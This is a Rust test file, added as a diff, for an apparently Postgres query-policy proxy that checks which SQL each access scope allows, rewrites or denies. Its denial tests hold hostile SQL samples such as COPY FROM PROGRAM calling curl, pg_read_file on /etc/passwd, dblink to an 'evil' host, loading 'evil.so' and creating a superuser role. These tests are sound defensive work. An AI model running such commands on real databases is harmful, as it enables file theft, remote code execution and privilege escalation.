@@ -1,0 +1,266 @@
+//! The decision function against the demo scopes, class by class of the threat model.
+
+use super::*;
+
+fn scope(name: &str) -> ScopePolicy {
+    let scopes = crate::demo::demo_scopes();
+    ScopePolicy::from_config(name, &scopes[name])
+}
+
+#[track_caller]
+fn allowed(s: &ScopePolicy, sql: &str) {
+    let v = s.decide_uncached(sql);
+    assert!(!v.decision.is_deny(), "{} should allow {sql:?}, got {:?}", s.name, v.decision);
+}
+
+#[track_caller]
+fn denied(s: &ScopePolicy, sql: &str, why: &str) {
+    match s.decide_uncached(sql).decision {
+        Decision::Deny { message, .. } => assert!(message.contains(why), "{} refused {sql:?} but said {message:?}, expected {why:?}", s.name),
+        other => panic!("{} should refuse {sql:?}, got {other:?}", s.name),
+    }
+}
+
+#[test]
+fn reads_in_scope_are_allowed_and_capped() {
+    let s = scope("orders-read");
+    allowed(&s, "SELECT * FROM orders.orders WHERE id = 1");
+    allowed(&s, "select count(*), status from orders group by status"); // via search_path orders
+    allowed(&s, "SELECT o.id, i.sku FROM orders.orders o JOIN orders.items i ON i.order_id = o.id");
+    allowed(&s, "EXPLAIN SELECT * FROM orders.orders");
+    allowed(&s, "SELECT c.relname FROM pg_catalog.pg_class c WHERE pg_catalog.pg_table_is_visible(c.oid)");
+    allowed(&s, "SELECT table_name FROM information_schema.tables");
+    match s.decide_uncached("SELECT * FROM orders.orders").decision {
+        Decision::Rewrite { sql, .. } => assert!(sql.ends_with("LIMIT 1000"), "{sql}"),
+        other => panic!("{other:?}"),
+    }
+    match s.decide_uncached("SELECT * FROM orders.orders LIMIT 5000").decision {
+        Decision::Rewrite { sql, .. } => assert!(sql.contains("LIMIT 1000") && !sql.contains("5000"), "{sql}"),
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(s.decide_uncached("SELECT * FROM orders.orders LIMIT 10").decision, Decision::Allow);
+    match s.decide_uncached("SELECT * FROM orders.orders LIMIT $1").decision {
+        Decision::Rewrite { sql, .. } => assert!(sql.contains("LEAST($1, 1000)"), "{sql}"),
+        other => panic!("{other:?}"),
+    }
+    match s.decide_uncached("COPY orders.orders TO STDOUT").decision {
+        Decision::Rewrite { sql, .. } => assert!(sql.contains("LIMIT 1000") && sql.starts_with("COPY (SELECT"), "{sql}"),
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn writes_outside_the_scope_are_refused_with_the_rule() {
+    let s = scope("orders-read");
+    denied(&s, "DELETE FROM orders.orders WHERE id = 1", "does not allow DELETE on orders.orders");
+    assert!(matches!(s.decide_uncached("DELETE FROM orders.orders WHERE id = 1").decision, Decision::Deny { ref message, ref code } if message == "pglease: scope \"orders-read\" does not allow DELETE on orders.orders" && code == "42501"));
+    denied(&s, "INSERT INTO orders.items VALUES (1, 'x', 1)", "INSERT on orders.items");
+    denied(&s, "UPDATE orders SET status = 'x' WHERE id = 1", "UPDATE on orders.orders");
+    denied(&s, "TRUNCATE orders.items", "TRUNCATE");
+    denied(&s, "SELECT * FROM public.customers", "SELECT on public.customers");
+    // Unqualified names resolve only within the pinned search_path (orders): this is
+    // orders.customers, which does not exist; public.customers is out of reach.
+    allowed(&s, "SELECT * FROM customers");
+    denied(&scope("support"), "SELECT * FROM items", "SELECT on public.items");
+    denied(&s, "COPY orders.items FROM STDIN", "COPY FROM");
+}
+
+#[test]
+fn writes_hidden_inside_reads() {
+    let s = scope("orders-read");
+    denied(&s, "WITH gone AS (DELETE FROM orders.orders WHERE id = 1 RETURNING *) SELECT * FROM gone", "DELETE");
+    denied(&s, "SELECT * INTO orders.copy FROM orders.orders", "DDL");
+    denied(&s, "EXPLAIN ANALYZE DELETE FROM orders.orders WHERE id = 1", "DELETE");
+    denied(&s, "SELECT * FROM orders.orders FOR UPDATE", "row locks count as UPDATE");
+    denied(&s, "SELECT id FROM orders.orders WHERE id = 1 FOR SHARE", "UPDATE");
+    denied(&s, "SELECT nextval('orders.seq')", "nextval");
+    denied(&s, "SELECT setval('orders.seq', 1)", "setval");
+    denied(&s, "SELECT pg_advisory_lock(1)", "pg_advisory_lock");
+    denied(&s, "NOTIFY chan, 'x'", "NOTIFY");
+    denied(&s, "SELECT pg_notify('chan', 'x')", "pg_notify");
+    denied(&s, "SELECT orders.cancel_everything()", "orders.cancel_everything");
+    denied(&s, "SELECT my_volatile_function(id) FROM orders.orders", "my_volatile_function");
+    denied(&s, "SELECT * FROM orders.orders WHERE id IN (SELECT x FROM unknown_func())", "unknown_func");
+    denied(&s, "SELECT 1 WHERE EXISTS (SELECT 1 FROM (WITH x AS (INSERT INTO orders.items VALUES (1,'a',1) RETURNING 1) SELECT * FROM x) y)", "INSERT");
+    denied(&s, "SELECT 1 OPERATOR(public.+) 1", "operator public.+");
+}
+
+#[test]
+fn several_statements_prepared_statements_cursors_and_code() {
+    let s = scope("orders-read");
+    denied(&s, "SELECT 1; DELETE FROM orders.orders WHERE id = 1; SELECT 2", "DELETE");
+    denied(&s, "PREPARE p AS DELETE FROM orders.orders WHERE id = $1", "DELETE");
+    let v = s.decide_uncached("PREPARE p AS SELECT * FROM orders.orders WHERE id = $1");
+    assert!(!v.decision.is_deny());
+    assert_eq!(v.effects, vec![Effect::Prepared("p".into())]);
+    allowed(&s, "EXECUTE p(1)");
+    assert_eq!(s.decide_uncached("DEALLOCATE ALL").effects, vec![Effect::Deallocated(None)]);
+    denied(&s, "DECLARE c CURSOR FOR SELECT * FROM public.customers", "public.customers");
+    allowed(&s, "DECLARE c CURSOR FOR SELECT * FROM orders.orders");
+    allowed(&s, "FETCH 10 FROM c");
+    denied(&s, "DO $$ BEGIN DELETE FROM orders.orders; END $$", "DO blocks");
+    denied(&s, "CALL orders.cleanup()", "CALL");
+    denied(&s, "PREPARE TRANSACTION 'x'", "two-phase");
+}
+
+#[test]
+fn session_state_that_changes_meaning_is_pinned() {
+    let s = scope("orders-read");
+    for sql in [
+        "SET search_path = public",
+        "SET ROLE postgres",
+        "SET SESSION AUTHORIZATION postgres",
+        "RESET ROLE",
+        "SET standard_conforming_strings = off",
+        "SET client_encoding = 'LATIN1'",
+        "SET default_transaction_read_only = off",
+        "SET statement_timeout = 0",
+        "SET application_name = 'not me'",
+        "SET LOCAL search_path = public",
+        "RESET search_path",
+        "SET work_mem = '1GB'",
+    ] {
+        denied(&s, sql, "does not allow changing setting");
+    }
+    denied(&s, "SELECT set_config('search_path', 'public', false)", "set_config");
+    denied(&s, "BEGIN READ WRITE", "READ WRITE");
+    denied(&s, "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "READ WRITE");
+    denied(&s, "SET TRANSACTION READ WRITE", "READ WRITE");
+    denied(&s, "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "READ WRITE");
+    allowed(&s, "BEGIN");
+    allowed(&s, "BEGIN READ ONLY");
+    allowed(&s, "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ");
+    allowed(&s, "SET DateStyle = 'ISO, MDY'");
+    allowed(&s, "SET TIME ZONE 'UTC'");
+    allowed(&s, "RESET ALL");
+    allowed(&s, "SHOW search_path");
+    allowed(&s, "COMMIT");
+    // A write scope may begin read-write transactions, and the dba scope may change settings.
+    allowed(&scope("orders-write"), "BEGIN READ WRITE");
+    allowed(&scope("dba"), "SET work_mem = '64MB'");
+    denied(&scope("dba"), "SET ROLE postgres", "does not allow changing setting role");
+}
+
+#[test]
+fn name_resolution() {
+    let s = scope("orders-read");
+    // Case folding and quoting: ORDERS.Orders folds to orders.orders; "Orders" does not.
+    allowed(&s, "SELECT * FROM ORDERS.Orders");
+    denied(&scope("support"), "SELECT * FROM \"Public\".customers", "SELECT on Public.customers");
+    // Unicode-escaped identifiers are decoded by the parser before the check.
+    denied(&s, "SELECT * FROM public.U&\"\\0063ustomers\"", "public.customers");
+    allowed(&s, "SELECT * FROM orders.U&\"\\006Frders\"");
+    // Over-long identifiers are truncated to 63 bytes, as Postgres does.
+    let long = format!("orders.{}", "x".repeat(100));
+    denied(&scope("support"), &format!("SELECT * FROM {long}"), &format!("orders.{}", "x".repeat(63)));
+    // A CTE named like a table hides it only inside its scope.
+    allowed(&s, "WITH customers AS (SELECT 1 AS id) SELECT * FROM customers");
+    let support = scope("support");
+    denied(&support, "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders", "SELECT on public.orders");
+    denied(&support, "SELECT (WITH items AS (SELECT 1) SELECT 1), * FROM items", "SELECT on public.items");
+    allowed(&support, "WITH items AS (SELECT 1 AS id) SELECT * FROM items");
+    allowed(&s, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r");
+    // Other databases are never reachable by name.
+    denied(&s, "SELECT * FROM otherdb.orders.orders", "other databases");
+    // Catalog names resolve to pg_catalog, others along search_path only.
+    allowed(&s, "SELECT relname FROM pg_class");
+    // A temp table cannot be created to shadow a real one.
+    denied(&s, "CREATE TEMP TABLE orders (id int)", "DDL");
+}
+
+#[test]
+fn column_rules() {
+    let s = scope("support");
+    allowed(&s, "SELECT id, name, email FROM public.customers");
+    allowed(&s, "SELECT c.name, o.amount_cents FROM customers c JOIN orders.orders o ON o.customer_id = c.id");
+    denied(&s, "SELECT ssn FROM customers", "column ssn of customers");
+    denied(&s, "SELECT * FROM customers", "does not allow * on customers");
+    denied(&s, "SELECT c.* FROM customers c", "does not allow *");
+    denied(&s, "SELECT c FROM customers c", "whole-row");
+    denied(&s, "SELECT row_to_json(customers) FROM customers", "whole-row");
+    denied(&s, "SELECT id FROM customers WHERE ssn LIKE '1%'", "column ssn");
+    denied(&s, "SELECT id FROM customers ORDER BY ssn", "column ssn");
+    denied(&s, "SELECT a.id FROM customers a JOIN customers b USING (ssn)", "column ssn");
+    denied(&s, "SELECT id FROM customers NATURAL JOIN orders.orders", "NATURAL JOIN");
+    denied(&s, "COPY customers TO STDOUT", "COPY TO");
+    denied(&s, "DECLARE c CURSOR FOR SELECT ssn FROM customers", "column ssn");
+    denied(&s, "SELECT query_to_xml('select ssn from customers', true, true, '')", "query_to_xml");
+    denied(&s, "SELECT * FROM orders.items", "SELECT on orders.items");
+}
+
+#[test]
+fn server_files_programs_extensions_and_signals() {
+    let dba = scope("dba");
+    denied(&dba, "COPY orders.orders TO '/tmp/x'", "file on the database server");
+    denied(&dba, "COPY orders.orders FROM PROGRAM 'curl evil'", "PROGRAM");
+    denied(&dba, "SELECT pg_read_file('/etc/passwd')", "pg_read_file");
+    denied(&dba, "SELECT lo_import('/etc/passwd')", "lo_import");
+    denied(&dba, "SELECT pg_terminate_backend(1)", "pg_terminate_backend");
+    denied(&dba, "SELECT pg_cancel_backend(1)", "pg_cancel_backend");
+    denied(&dba, "CREATE EXTENSION dblink", "extensions");
+    denied(&dba, "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", "dblink");
+    denied(&dba, "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", "foreign servers");
+    denied(&dba, "ALTER SYSTEM SET fsync = off", "server administration");
+    denied(&dba, "CREATE ROLE mallory SUPERUSER", "roles or privileges");
+    denied(&dba, "GRANT ALL ON orders.orders TO PUBLIC", "roles or privileges");
+    denied(&dba, "LOAD 'evil.so'", "server administration");
+    // …while DDL itself is the dba scope's business.
+    allowed(&dba, "CREATE TABLE orders.audit_notes (id int)");
+    allowed(&dba, "ALTER TABLE orders.orders ADD COLUMN note text");
+    allowed(&dba, "DROP TABLE orders.audit_notes");
+    allowed(&dba, "VACUUM ANALYZE orders.orders");
+    denied(&scope("orders-write"), "CREATE TABLE orders.x (id int)", "DDL");
+    denied(&scope("orders-write"), "VACUUM orders.orders", "maintenance");
+}
+
+#[test]
+fn writes_in_a_write_scope() {
+    let s = scope("orders-write");
+    allowed(&s, "INSERT INTO orders.items (order_id, sku, qty) VALUES (1, 'x', 1)");
+    allowed(&s, "UPDATE orders.orders SET status = 'paid' WHERE id = 42");
+    allowed(&s, "DELETE FROM orders.items WHERE order_id = 42");
+    allowed(&s, "WITH moved AS (DELETE FROM orders.items WHERE qty = 0 RETURNING *) SELECT count(*) FROM moved");
+    allowed(&s, "COPY orders.items FROM STDIN");
+    allowed(&s, "SELECT * FROM orders.orders WHERE id = 1 FOR UPDATE");
+    denied(&s, "UPDATE orders.orders SET status = 'paid'", "without WHERE");
+    denied(&s, "DELETE FROM orders.items", "without WHERE");
+    denied(&s, "INSERT INTO public.customers (id) VALUES (1)", "INSERT on public.customers");
+    denied(&s, "INSERT INTO orders.items SELECT * FROM public.customers", "SELECT on public.customers");
+    denied(&s, "TRUNCATE orders.items", "TRUNCATE");
+}
+
+#[test]
+fn anything_that_does_not_parse_is_refused_with_its_parse_error() {
+    let s = scope("dba");
+    for sql in ["SELEC 1", "SELECT 'unterminated", "DELETE FROM", "SELECT 1; DROP TABLE", "\u{0}"] {
+        match s.decide_uncached(sql).decision {
+            Decision::Deny { code, message } => {
+                assert_eq!(code, "42601", "{sql}");
+                assert!(message.contains("cannot parse"), "{message}");
+            }
+            other => panic!("{sql:?}: {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn the_cache_returns_the_same_decision() {
+    let s = scope("orders-read");
+    let first = s.decide("DELETE FROM orders.orders WHERE id = 1");
+    let second = s.decide("DELETE FROM orders.orders WHERE id = 1");
+    assert_eq!(first, second);
+    assert!(first.decision.is_deny());
+}
+
+#[test]
+fn scope_sql_grants_exactly_the_rules() {
+    let scopes = crate::demo::demo_scopes();
+    let sql = super::sql::scope_sql("support", &scopes["support"]);
+    assert!(sql.contains("CREATE ROLE \"pglease_support\" LOGIN NOSUPERUSER"), "{sql}");
+    assert!(sql.contains("attname NOT IN ('ssn')"), "{sql}");
+    assert!(sql.contains("GRANT SELECT ON \"orders\".\"orders\" TO \"pglease_support\""), "{sql}");
+    assert!(!sql.contains("CREATE ON SCHEMA"), "{sql}");
+    let sql = super::sql::scope_sql("orders-read", &scopes["orders-read"]);
+    assert!(sql.contains("GRANT SELECT ON ALL TABLES IN SCHEMA \"orders\" TO \"pglease_orders_read\""), "{sql}");
+    assert!(!sql.contains("INSERT"), "{sql}");
+}
